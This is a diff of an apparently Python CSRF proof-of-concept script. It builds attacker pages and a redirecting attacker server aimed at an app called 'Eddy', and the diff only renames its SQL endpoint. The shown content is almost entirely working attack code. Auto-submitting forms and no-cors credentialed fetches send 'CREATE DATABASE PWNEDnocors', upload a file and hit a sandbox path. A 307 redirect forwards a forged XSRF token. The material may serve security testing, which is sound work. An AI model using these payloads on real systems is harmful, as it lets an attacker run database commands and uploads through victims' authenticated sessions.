@@ -34,14 +34,14 @@ def attack_pages(eddy: str) -> dict[str, str]:
             f"<script>{toss} document.getElementById('f').submit();</script>"
         )
 
-    api = f"{eddy}/api/sql?_xsrf=chosen"
+    api = f"{eddy}/api/query?_xsrf=chosen"
     no_cors = """<!doctype html><meta name=referrer content=no-referrer><title>running</title><script>
 TOSS
 const body = JSON.stringify({sql: "CREATE DATABASE PWNEDnocors"});
 Promise.allSettled([
   fetch("API", {method: "POST", mode: "no-cors", credentials: "include", body,
                 headers: {"Content-Type": "text/plain", "X-XSRFToken": "chosen"}}),
-  fetch("EDDY/api/sql", {method: "POST", mode: "no-cors", credentials: "include", body: new Blob([body])}),
+  fetch("EDDY/api/query", {method: "POST", mode: "no-cors", credentials: "include", body: new Blob([body])}),
   fetch("EDDY/api/transfer/upload?name=x.csv", {method: "POST", mode: "no-cors", credentials: "include",
                                                 body: new Blob(["id\\n1\\n"])}),
   fetch("EDDY/api/sandbox/server-path", {method: "POST", mode: "no-cors", credentials: "include",
@@ -52,7 +52,7 @@ Promise.allSettled([
     return {
         "/form": form("form", api),
         "/redirect": form("redirect", "/bounce"),
-        "/urlencoded": form("urlencoded", f"{eddy}/api/sql?_xsrf=chosen", "application/x-www-form-urlencoded"),
+        "/urlencoded": form("urlencoded", f"{eddy}/api/query?_xsrf=chosen", "application/x-www-form-urlencoded"),
         "/new-connection": (
             "<!doctype html><meta name=referrer content=no-referrer>"
             f'<form id=f method=post action="{eddy}/connections/new">'
@@ -101,7 +101,7 @@ def attacker_server(eddy: str):
         def do_POST(self):  # the redirect variant: bounce the POST (body kept) to Eddy
             self.rfile.read(int(self.headers.get("Content-Length") or 0))
             self.send_response(307)
-            self.send_header("Location", f"{eddy}/api/sql?_xsrf=chosen")
+            self.send_header("Location", f"{eddy}/api/query?_xsrf=chosen")
             self.send_header("Referrer-Policy", "no-referrer")
             self.end_headers()
 
